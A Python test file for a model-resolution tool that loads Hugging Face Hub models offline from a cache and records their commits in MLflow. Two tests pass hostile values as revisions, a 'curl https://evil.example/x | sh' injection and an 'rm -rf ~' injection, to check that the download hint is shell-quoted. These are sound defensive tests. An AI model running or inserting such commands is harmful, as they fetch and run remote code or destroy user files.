"""Models named by Hugging Face Hub id: resolved offline from a real Hub cache folder.

A tiny model is put into a temporary Hub cache in huggingface_hub's documented layout
(tests/hub_cache.py), with `HF_HUB_CACHE` pointing at it and `HF_HUB_OFFLINE=1`; then a whole
cycle runs with `--base-model org/name` and records the snapshot's commit in MLflow.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from hub_cache import add_to_hub_cache
from tenet.runtime.cli import main
from tenet.runtime.console import Console
from tenet.runtime.models import ModelError, resolve_model

pytest_plugins = ["tiny_models"]
FIXTURE = Path(__file__).parent / "fixtures" / "cycle" / "tiny.policy"


@pytest.fixture
def hub(tmp_path: Path, tiny_llama: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    """A Hub cache holding the tiny Llama as `acme/smol` (main); returns the cache and commit."""
    cache = tmp_path / "hub"
    commit = add_to_hub_cache(cache, "acme/smol", tiny_llama)
    monkeypatch.setenv("HF_HUB_CACHE", str(cache))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.delenv("TENET_ALLOW_DOWNLOADS", raising=False)
    return cache, commit


def test_the_cache_layout_is_the_one_huggingface_hub_reads(hub):
    from huggingface_hub import scan_cache_dir

    cache, commit = hub
    (repo,) = scan_cache_dir(cache).repos
    assert repo.repo_id == "acme/smol" and repo.repo_type == "model"
    assert {r.commit_hash for r in repo.revisions} == {commit}


def test_a_hub_id_resolves_to_its_cached_snapshot(hub):
    cache, commit = hub
    path = Path(resolve_model("acme/smol"))
    assert path == cache / "models--acme--smol" / "snapshots" / commit
    assert Path(resolve_model(f"acme/smol@{commit}")) == path  # pinned by commit
    assert Path(resolve_model("acme/smol", revision=commit)) == path


def test_a_hub_model_is_fingerprinted_by_commit_without_writing_into_the_cache(hub):
    from tenet.runtime.cache import key_of, model_fingerprint
    from tenet.runtime.hub import commit_params

    cache, commit = hub
    path = resolve_model("acme/smol")
    assert model_fingerprint(path) == key_of("hub", "model", "acme/smol", commit)
    assert not list(cache.rglob(".tenet-fingerprint.json"))
    assert commit_params("base", path) == {"model.base.id": "acme/smol", "model.base.commit": commit}
    assert commit_params("base", cache) == {}  # not a snapshot folder


def test_an_unknown_id_offline_says_what_to_do(hub):
    cache, _ = hub
    with pytest.raises(ModelError) as caught:
        resolve_model("acme/missing")
    message = str(caught.value)
    assert "'acme/missing'" in message and "not in the Hugging Face cache" in message
    assert str(cache) in message and "TENET_ALLOW_DOWNLOADS=1" in message and "hf download" in message


def test_the_download_hint_passes_a_hostile_revision_as_one_argument(hub):
    import shlex

    revision = "main && curl https://evil.example/x | sh #"
    with pytest.raises(ModelError) as caught:
        resolve_model("acme/smol", revision=revision)
    hint = str(caught.value).split("(`", 1)[1].split("`)", 1)[0]
    assert shlex.split(hint) == ["hf", "download", "acme/smol", "--revision", revision]


def test_the_dataset_download_hint_is_quoted_too():
    import shlex

    from tenet.runtime.hub import download_command

    command = download_command("acme/logs", "v1; rm -rf ~", "dataset")
    assert shlex.split(command) == ["hf", "download", "acme/logs", "--repo-type", "dataset", "--revision",
                                    "v1; rm -rf ~"]


def test_a_revision_that_is_not_cached_is_named(hub):
    with pytest.raises(ModelError, match="revision 'v2' of it is not in the Hugging Face cache"):
        resolve_model("acme/smol", revision="v2")


def test_a_snapshot_without_weights_is_refused(tmp_path, monkeypatch):
    folder = tmp_path / "partial"
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    add_to_hub_cache(tmp_path / "hub", "acme/partial", folder)
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hub"))
    with pytest.raises(ModelError, match="has no weights"):
        resolve_model("acme/partial")


@pytest.fixture(scope="module")
def hub_cycle(tmp_path_factory, torch_one_thread):
    """One cycle with `--base-model acme/smol` from a temporary Hub cache, offline."""
    from tiny_models import build_tiny_llama

    tmp = tmp_path_factory.mktemp("hub-cycle")
    commit = add_to_hub_cache(tmp / "hub", "acme/smol", build_tiny_llama(tmp / "llama"))
    with pytest.MonkeyPatch.context() as env:
        env.setenv("HF_HUB_CACHE", str(tmp / "hub"))
        env.setenv("HF_HUB_OFFLINE", "1")
        env.delenv("TENET_ALLOW_DOWNLOADS", raising=False)
        env.delenv("MLFLOW_TRACKING_URI", raising=False)
        out, err = io.StringIO(), io.StringIO()
        code = main(["compile-and-train", str(FIXTURE), "--base-model", "acme/smol", "--max-steps", "2",
                     "--eval-prompts", "2", "--model-prompts", "4", "--work-dir", str(tmp / "work")],
                    Console(out=out, err=err))
        audit_out = io.StringIO()
        audit_code = main(["audit", "tiny", "--work-dir", str(tmp / "work"), "--model", "tiny/1"],
                          Console(out=audit_out, err=io.StringIO()))
    return code, err.getvalue(), commit, tmp, audit_code, audit_out.getvalue()


def test_a_cycle_trains_a_hub_model_and_records_its_commit(hub_cycle, monkeypatch):
    code, err, commit, tmp, _, _ = hub_cycle
    assert code == 0, err
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    from tenet.runtime.track import Tracker

    tracker = Tracker("tiny", tmp / "work")
    (parent,) = [r for r in tracker.client.search_runs([tracker.experiment_id])
                 if "mlflow.parentRunId" not in r.data.tags]
    params = parent.data.params
    assert params["plan.base_model"] == "acme/smol" and params["plan.revision"] == "main"
    assert params["model.base.id"] == "acme/smol" and params["model.base.commit"] == commit
    assert not list((tmp / "hub").rglob(".tenet-fingerprint.json"))  # the shared cache stays untouched
    # The start model is the Hub id and commit, and the registered model's source (a full
    # fine-tune) its folder in the work folder: neither names the cache folder.
    train = next(r for r in tracker.client.search_runs([tracker.experiment_id])
                 if r.data.tags.get("tenet.stage") == "train")
    assert train.data.params["train.start_model"] == f"acme/smol@{commit}"
    (mlmodel,) = (tmp / "work").glob("mlartifacts/models/*/artifacts/MLmodel")
    assert "source_model_name: <work>/tiny/" in mlmodel.read_text(encoding="utf-8")


def test_audit_shows_the_base_model_commit(hub_cycle):
    _, _, commit, _, audit_code, audit_out = hub_cycle
    assert audit_code == 0
    assert f"model base: acme/smol @ {commit}" in audit_out
